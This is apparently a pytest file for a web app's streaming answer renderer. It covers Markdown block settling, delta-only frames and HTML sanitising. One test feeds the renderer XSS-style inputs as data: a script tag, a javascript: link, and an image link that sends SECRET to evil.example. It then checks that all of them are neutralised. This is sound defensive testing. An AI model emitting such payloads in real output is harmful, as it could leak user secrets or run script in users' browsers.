"""The live answer feed: settled Markdown blocks once, the rest as deltas, nothing unsafe."""

from __future__ import annotations

import json

from webapp.app.turn_runs import TurnUpdate
from webapp.core.messages import ReasoningDelta, TextDelta, ToolCall, ToolCallStarted
from webapp.core.turn import TurnProgress
from webapp.ui.live_view import Blocks, LiveWriter, render_block


def events(data: bytes) -> list[dict]:
    return [json.loads(line[6:]) for line in data.decode().split("\n\n") if line]


def test_blocks_settle_at_blank_lines_and_closed_fences_only() -> None:
    blocks = Blocks()
    assert blocks.feed("First paragraph") == []
    assert blocks.feed("First paragraph\n\nSecond") == ["First paragraph\n\n"]
    text = "First paragraph\n\nSecond\n```py\nx = 1\n\ny = 2\n"
    assert blocks.feed(text) == []  # a blank line inside an open fence ends nothing
    text += "```\n"
    assert blocks.feed(text) == ["Second\n```py\nx = 1\n\ny = 2\n```\n"]
    assert blocks.settled == len(text)


def test_the_writer_sends_only_what_is_new() -> None:
    progress = TurnProgress()
    update = TurnUpdate("c" * 32, [], ["a" * 32], progress, "P", "m")
    writer = LiveWriter(update)
    progress.apply(ReasoningDelta("Hmm."))
    progress.apply(TextDelta("Hello "))
    first = events(writer.frame(False))
    assert first == [
        {"labels": {"thinking": "Thinking"}},
        {"lane": 0, "seg": 0, "reasoning": "Hmm.", "more": "Hello "},
    ]
    assert writer.frame(False) == b""  # nothing new, nothing sent
    progress.apply(TextDelta("world.\n\nNext"))
    second = events(writer.frame(False))
    assert second == [{"lane": 0, "seg": 0, "blocks": ["<p>Hello world.</p>\n"], "tail": "Next"}]
    progress.apply(TextDelta(" words"))
    assert events(writer.frame(False)) == [{"lane": 0, "seg": 0, "more": " words"}]
    progress.apply(ToolCallStarted(ToolCall("t1", "calculator", '{"expression": "1"}')))
    [tools] = events(writer.frame(False))
    assert tools["tools"] == [
        {"title": "🛠 calculator · running…", "arguments": '{"expression": "1"}', "result": None}
    ]
    update.state = "complete"
    assert events(writer.frame(True)) == [{"done": True, "state": "complete"}]


def test_a_frame_costs_what_is_new_not_the_answers_length() -> None:
    progress = TurnProgress()
    writer = LiveWriter(TurnUpdate("c" * 32, [], ["a" * 32], progress, "P", "m"), "zh")
    progress.apply(TextDelta("word " * 100_000))  # one long paragraph still being written
    assert len(writer.frame(False)) > 500_000
    progress.apply(TextDelta("more "))
    assert len(writer.frame(False)) < 100
    assert writer.started


def test_rendered_blocks_keep_model_html_as_text_and_load_nothing() -> None:
    rendered = render_block(
        '<img src="/logout"> <script>x</script> [a](javascript:alert(1)) '
        "![secret](http://evil.example/?q=SECRET) [ok](https://example.com)"
    )
    assert "<img" not in rendered and "<script" not in rendered
    assert "&lt;img" in rendered
    assert 'href="javascript' not in rendered and "evil.example" not in rendered
    assert "🖼 secret" in rendered
    assert '<a target="_blank" rel="noopener noreferrer" href="https://example.com">' in rendered
